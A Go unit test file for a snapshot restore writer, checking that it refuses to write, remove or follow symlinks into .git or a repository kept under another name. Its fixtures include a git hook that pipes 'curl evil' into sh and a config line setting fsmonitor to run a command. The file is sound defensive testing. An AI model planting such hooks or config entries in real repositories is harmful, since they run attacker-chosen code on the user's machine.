package snapshot

import (
	"errors"
	"os"
	"testing"

	"retrace/state"
)

// A restore never writes, removes or sweeps under .git, whatever the case
// of its name and however deep: it is the user's history, and a hook
// planted there runs unconfined at the next commit.
func TestPutNeverWritesUnderGit(t *testing.T) {
	f := newFixture(t, Options{})
	f.write(".git/index", "the user's index")
	hook := "#!/bin/sh\ncurl evil | sh\n"
	for _, p := range []string{".git/hooks/pre-commit", ".GIT/config", "sub/.git/hooks/post-checkout", ".Git"} {
		if err := f.w.Put(p, fileImage(hook, 0o755), []byte(hook)); !errors.Is(err, ErrGitPath) {
			t.Errorf("Put(%s): err = %v, want ErrGitPath", p, err)
		}
		if _, err := os.Lstat(f.path(p)); !os.IsNotExist(err) {
			t.Errorf("Put(%s) wrote it: %v", p, err)
		}
	}
	if err := f.w.Put(".git/index", state.FileImage{Absent: true}, nil); !errors.Is(err, ErrGitPath) {
		t.Errorf("Put of an absent image under .git: err = %v, want ErrGitPath", err)
	}
	if err := f.w.Remove(".git/index"); !errors.Is(err, ErrGitPath) {
		t.Errorf("Remove under .git: err = %v, want ErrGitPath", err)
	}
	if got, err := os.ReadFile(f.path(".git/index")); err != nil || string(got) != "the user's index" {
		t.Errorf(".git/index holds %q, %v", got, err)
	}
	for _, p := range []string{".gitignore", "a.git/x", "dot.git", ".github/workflows/ci.yml"} {
		if InGitDir(p) {
			t.Errorf("InGitDir(%s) = true", p)
		}
	}
}

// Nor does it write through a symbolic link, which os.Root follows while
// it stays in the workspace: a link named anything, to .git, would lead a
// restore's write into git's own directory. Nor into a directory that
// holds a repository under another name (a --separate-git-dir kept in
// the workspace). A plain directory, missing or there, takes the write.
func TestPutNeverWritesThroughALinkOrIntoARepository(t *testing.T) {
	f := newFixture(t, Options{})
	f.write(".git/config", "the user's config")
	f.write(".git/index", "the user's index")
	if err := os.Symlink(".git", f.path("gl")); err != nil {
		t.Fatal(err)
	}
	f.write("gitdir/HEAD", "ref: refs/heads/main\n")
	for _, d := range []string{"gitdir/objects", "gitdir/refs", "gitdir/hooks"} {
		if err := os.MkdirAll(f.path(d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	evil := "[core]\n\tfsmonitor = \"touch pwned; false\"\n"
	for _, c := range []struct {
		path string
		want error
	}{
		{"gl/config", ErrLinkedPath},
		{"gl/hooks/pre-commit", ErrLinkedPath},
		{"gitdir/hooks/pre-commit", ErrGitPath},
		{"gitdir/config", ErrGitPath},
	} {
		if err := f.w.Put(c.path, fileImage(evil, 0o755), []byte(evil)); !errors.Is(err, c.want) {
			t.Errorf("Put(%s): err = %v, want %v", c.path, err, c.want)
		}
	}
	if err := f.w.Put("gl/index", state.FileImage{Absent: true}, nil); !errors.Is(err, ErrLinkedPath) {
		t.Errorf("a removal through the link: err = %v, want ErrLinkedPath", err)
	}
	for p, want := range map[string]string{".git/config": "the user's config", ".git/index": "the user's index"} {
		if got, err := os.ReadFile(f.path(p)); err != nil || string(got) != want {
			t.Errorf("%s holds %q, %v", p, got, err)
		}
	}
	for _, p := range []string{".git/hooks/pre-commit", "gitdir/hooks/pre-commit", "gitdir/config"} {
		if _, err := os.Lstat(f.path(p)); !os.IsNotExist(err) {
			t.Errorf("%s was written: %v", p, err)
		}
	}
	for _, p := range []string{"src/new/deep/file.txt", "gitdir-notes/HEAD"} {
		if err := f.w.Put(p, fileImage("ok\n", 0o644), []byte("ok\n")); err != nil {
			t.Errorf("Put(%s) in plain directories: %v", p, err)
		}
	}
}
